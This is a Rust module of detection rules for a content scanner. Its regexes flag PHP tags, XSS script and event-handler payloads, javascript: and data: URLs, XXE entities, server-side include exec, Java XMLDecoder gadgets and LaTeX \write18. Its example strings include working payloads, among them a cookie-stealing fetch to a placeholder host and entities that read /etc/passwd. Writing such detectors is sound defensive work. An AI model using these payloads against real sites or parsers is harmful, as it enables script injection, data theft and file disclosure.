//! PHP tags, and markup that runs something.

use super::Hit;
use super::rule::Weight::{Hostile, Plain};
use super::rule::{Rule, Weight, rule};
use memchr::memmem;

pub(super) const RULES: &[Rule] = &[
    rule("code.php.tag", "<?php", 78, Plain)
        .at(&["<?php"], r"^<\?php(?:[^\w]|$)")
        .examples(&["<?php", "<?PHP echo 1;", "see <?php\n"], &["<?xml version=\"1.0\"?>", "<?phpx"]),
    rule("code.php.tag", "<?=", 76, Plain)
        .at(&["<?="], r"^<\?=\s*\S")
        .examples(&["<?= `id` ?>", "<?=$x"], &["a <? = b", "<?=", "List<?> = x"]),
    rule("code.php.backtick", "backtick command", 84, Hostile)
        .at(&["<?="], r"^<\?=\s*`[^`\n]{1,120}`")
        .examples(&["<?= `id` ?>"], &["<?= $name ?>"]),
    rule("code.html.script", "<script>", 86, Hostile)
        .at(
            &["<script"],
            r"^<script[^>]{0,160}>.{0,240}?(?:document\.cookie|\beval\s*\(|\batob\s*\(|fromcharcode|sendbeacon|localstorage\.getitem|\.constructor\b|new\s+function\b)",
        )
        .examples(&["<script>fetch(\"http://x.example?c=\"+document.cookie)</script>", "<script>eval(atob('eA=='))</script>"], &["<script>console.log(1)</script>", "<script defer>"]),
    rule("code.html.script", "<script>", 74, Plain)
        .at(
            &["<script"],
            r"^<script[^>]{0,160}>.{0,120}?(?:\b(?:alert|confirm|prompt|print)\s*[(`]|fetch\s*\(\s*[\x22'`]?(?:https?:)?//|xmlhttprequest|(?:window\.|document\.|top\.)?location(?:\.href)?\s*=|new\s+image\b|document\.write\s*\(|\bimport\s*\(\s*[\x22']?(?:https?:)?//|while\s*\(\s*(?:1|true)\s*\))",
        )
        .examples(&["<script>alert(1)</script>", "<ScRiPt >alert`1`</script>"], &["<script type=\"module\">render()</script>"]),
    rule("code.html.script", "<script src>", 60, Plain)
        .at(&["<script"], r"^<script[^>]{0,80}?[\s/]src\s*=\s*[\x22']?(?:(?:https?:)?//|data:)")
        .unless(&["<link", "<head", "<html", "<body", "<meta", "integrity=", "crossorigin", " async", " defer", "cdn", "unpkg", "googleapis", "cloudflare", "type=\"module", "type=\"text"])
        .examples(&["<script src=//x.example/a.js></script>"], &["<script src=\"/app.js\"></script>", "<script async src=\"https://x.example/a.js\">"]),
    rule("code.html.handler", "event handler", 84, Hostile)
        .at(
            &["onerror", "onload", "onmouseover", "onfocus", "onblur", "ontoggle", "onbegin", "onanimation", "onpointer", "onmouseenter", "onstart", "onscroll", "onhashchange", "onpageshow", "onwheel", "onauxclick", "onloadstart", "oncopy", "onclick", "oninput", "onsubmit"],
            r"^on[a-z]{3,20}\s*=\s*[\x22'`]?[^>\n]{0,160}?(?:document\.(?:cookie|domain|location)|\balert\s*[(`]|\beval\s*\(|\batob\s*\(|fromcharcode|fetch\s*\(|sendbeacon|import\s*\(\s*[\x22'`]|\.constructor|localstorage|new\s+image|top\[|window\[|self\[|prompt\s*[(`]|&#)",
        )
        .in_tag()
        .unless(&["onclick=\"alert(", "onclick='alert(", "onsubmit=\"alert("])
        .examples(
            &["<img src=x onerror=alert(document.domain)>", "<svg/onload=alert`1`>", "<body onload=\"fetch('//x.example')\">"],
            &["<button onclick=\"toggleMenu()\">", "<img src=\"a.png\" onerror=\"this.src='b.png'\">", "onload = alert(1)", "<button onclick=\"alert('Hi')\">"],
        ),
    rule("code.html.handler", "event handler", 66, Plain)
        .at(&["onerror", "onload", "onfocus", "ontoggle"], r"^on[a-z]{4,8}\s*=\s*[\x22'`]?\s*(?:javascript:|[a-z]+\s*\(\s*(?:\d+|document|window|[\x22'`]xss)|(?:window\.|document\.|top\.)?location(?:\.href)?\s*=|\$\.get)")
        .in_tag()
        .examples(&["<svg onload=confirm(1)>", "<img src=x onerror=\"location='//x.example'\">"], &["<body onload=\"init()\">"]),
    rule("code.html.url", "javascript:", 74, Hostile)
        .at(
            &["javascript:"],
            r"^javascript:\s*(?:/\*|//|[^\s<>]{0,60}?(?:\balert\s*[(`]|\beval\b|fetch\s*\(|document\.|\bimport\s*\(|prompt\s*[(`]|confirm\s*[(`]|\batob\s*\(|fromcharcode|(?:window\.)?location\s*=|\.constructor|%0[ad]))",
        )
        .examples(&["[x](javascript:alert(1))", "<a href=\"javascript:document.cookie\">"], &["href=\"javascript:void(0)\"", "learn javascript: it is fun", "JavaScript: The Good Parts"]),
    rule("code.html.url", "data:text/html", 76, Hostile)
        .at(&["data:text/html", "data:application/xhtml"], r"^data:[a-z+/]+(?:;charset=[\w-]+)?(?:;base64,(?:phnjcmlwd|pgh0bww|phn2zy|pgltzy|pgjvzhk)[a-z0-9+/=]*|,[^\s]{0,120}?(?:<|%3c)(?:script|svg[^\s]{0,10}onload|img))")
        .examples(&["data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="], &["data:text/html,<p>hi", "data:image/svg+xml;base64,PD94bWw="]),
    rule("code.html.frame", "hostile frame", 74, Hostile)
        .at(
            &["<iframe", "<object", "<embed", "<meta", "<base", "<link"],
            r"^<(?:iframe[^>]{0,160}?src\s*=\s*[\x22']?\s*(?:javascript:|data:text/html)|iframe[^>]{0,120}?srcdoc\s*=[^>]{0,40}?(?:<|&lt;)\s*(?:script|img|svg)|(?:object|embed)[^>]{0,120}?(?:data|src)\s*=\s*[\x22']?\s*(?:javascript:|data:text/html)|meta[^>]{0,80}?refresh[^>]{0,80}?url\s*=\s*[\x22']?\s*(?:javascript:|data:)|base\s+href\s*=\s*[\x22']?(?:javascript:|//)|link[^>]{0,60}?rel\s*=\s*[\x22']?import)",
        )
        .examples(&["<iframe src=\"javascript:alert(1)\">"], &["<iframe src=\"https://x.example/map\">", "<base href=\"/\">"]),
    rule("code.html.include", "server-side include", 82, Hostile)
        .at(&["<!--#"], r"^<!--#\s*(?:exec\s+(?:cmd|cgi)|include\s+(?:virtual|file)\s*=\s*[\x22'](?:/etc|\.\./|http)|printenv)")
        .examples(&["<!--#exec cmd=\"id\" -->"], &["<!--#include virtual=\"header.html\" -->", "<!-- # note -->"]),
    rule("code.xml.entity", "external entity", 82, Hostile)
        .at(&["<!entity"], r"^<!entity\s+(?:%\s*)?[\w.-]{1,40}\s+(?:system\s+[\x22'](?:file:|php:|expect:|gopher:|ftp:|https?:|/etc)|[\x22'](?:&\w+;){4,})")
        .examples(&["<!ENTITY x SYSTEM \"file:///etc/passwd\">", "<!ENTITY b \"&a;&a;&a;&a;&a;\">"], &["<!ENTITY copy \"&#169;\">", "<!ENTITY % a SYSTEM \"a.ent\">"]),
    rule("code.xml.object", "object in XML", 84, Hostile)
        .at(&["java.beans.xmldecoder", "<void class=", "<object class=", "java.lang.processbuilder"], r"^(?:java\.beans\.xmldecoder|<(?:void|object)\s+class\s*=\s*[\x22']java\.(?:lang|io)\.|java\.lang\.processbuilder)")
        .examples(&["<object class=\"java.lang.ProcessBuilder\">"], &["<object class=\"map\">"]),
    rule("code.latex.write", "\\write18", 78, Hostile)
        .at(&["\\write18", "\\input{/", "\\include{/", "\\input{|", "\\input|"], r"^\\(?:write18\s*\{|(?:input|include)\{(?:/etc|/proc|\|)|input\|)")
        .examples(&["\\immediate\\write18{id}", "\\input{/etc/passwd}"], &["\\input{chapter1}", "\\write16{x}"]),
];

/// Tells of `?>` that closes no tag: of `; ?>`, and of one that stands alone.
pub(super) fn closing_tags(text: &str, tell: &mut impl FnMut(Hit) -> bool) {
    let bytes = text.as_bytes();
    for at in memmem::find_iter(bytes, "?>") {
        let before = bytes.get(at.saturating_sub(400)..at).unwrap_or_default();
        let opened = memmem::rfind(before, b"<?").is_some_and(|open| {
            // An instruction of XML is closed like this; a PHP tag has been told by its opening.
            before.get(open + 2).is_some_and(|byte| byte.is_ascii_alphabetic() || *byte == b'=' || *byte == b' ')
        });
        let last = before.trim_ascii_end().last();
        // `List<?>`, `Map<K, ?>` and `(?>` belong to other languages.
        let statement = last.is_some_and(|byte| matches!(byte, b';' | b'}'));
        if opened || !(statement || text.trim() == "?>") {
            continue;
        }
        let hit =
            Hit { rule: "code.php.tag", pattern: "?>".into(), score: 72, weight: Weight::Plain, range: at..at + 2 };
        if !tell(hit) {
            return;
        }
    }
}
